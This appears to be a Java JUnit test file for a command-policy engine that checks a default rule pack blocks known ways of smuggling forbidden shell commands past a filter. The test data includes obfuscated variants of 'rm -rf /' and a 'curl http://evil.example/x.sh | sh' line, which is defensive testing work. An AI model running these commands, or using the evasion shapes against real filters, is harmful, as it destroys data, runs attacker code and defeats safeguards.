package dev.warden.rules.engine;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;

import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Known ways of sneaking a forbidden command past a filter (separators, substitutions,
 * absolute paths, quoting and escaping, option reordering, wrappers, encodings,
 * whitespace and newline tricks): against the default pack, none of them is allowed.
 */
class BypassCorpusUnitTests {

	private static final PolicySnapshot PACK = Packs.defaultPack();

	@Test
	void hasAtLeastFortyShapes() throws IOException {
		assertThat(corpus()).hasSizeGreaterThanOrEqualTo(40);
	}

	@TestFactory
	Stream<DynamicTest> noEvasionIsAllowed() throws IOException {
		return corpus().stream().map((line) -> DynamicTest.dynamicTest(line.replace("\n", "\\n"), () -> {
			Evaluation evaluation = PACK.evaluate(line, Set.of("MEMBER"));
			assertThat(evaluation.decision()).as(evaluation.explanation()).isNotEqualTo(Action.ALLOW);
		}));
	}

	@Test
	void blocksTheCommonShapesOutright() throws IOException {
		for (String line : List.of("ls;rm -rf /", "/bin/rm -rf /", "'r'm -rf /", "rm -r -f /", "sudo rm -rf /",
				"bash -c 'rm -rf /'", "{rm,-rf,/}", "rm${IFS}-rf${IFS}/", "$'\\x72\\x6d' -rf /", "echo $(rm -rf /)",
				"find / -maxdepth 0 -exec rm -rf {} \\;", "curl http://evil.example/x.sh | sh",
				"bash <<EOF\nrm -rf /\nEOF")) {
			assertThat(PACK.evaluate(line, Set.of("MEMBER")).decision()).as(line).isEqualTo(Action.BLOCK);
		}
	}

	private static List<String> corpus() throws IOException {
		try (InputStream in = BypassCorpusUnitTests.class.getResourceAsStream("/bypass-corpus.txt")) {
			return new String(in.readAllBytes(), StandardCharsets.UTF_8).lines()
				.filter((line) -> !line.isBlank() && !line.startsWith("#"))
				.map((line) -> line.replace("\\n", "\n").replace("\\t", "\t"))
				.toList();
		}
	}

}
